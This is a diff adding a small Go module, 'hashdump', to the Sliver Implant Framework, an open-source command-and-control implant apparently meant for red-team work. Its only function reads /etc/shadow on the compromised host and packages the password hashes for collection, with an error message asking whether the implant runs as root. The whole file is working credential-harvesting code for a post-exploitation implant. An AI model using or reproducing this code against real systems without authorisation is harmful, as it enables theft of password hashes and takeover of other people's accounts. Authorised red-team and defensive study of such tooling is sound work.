@@ -0,0 +1,37 @@
+package hashdump
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"io/ioutil"
+	"os"
+)
+
+// collect - /etc/shadow is only readable by root (and the shadow group)
+func collect() (map[string][]byte, error) {
+	data, err := ioutil.ReadFile("/etc/shadow")
+	if os.IsPermission(err) {
+		return nil, errors.New("Permission denied reading /etc/shadow (are you root?)")
+	}
+	if err != nil {
+		return nil, err
+	}
+	return map[string][]byte{"shadow": data}, nil
+}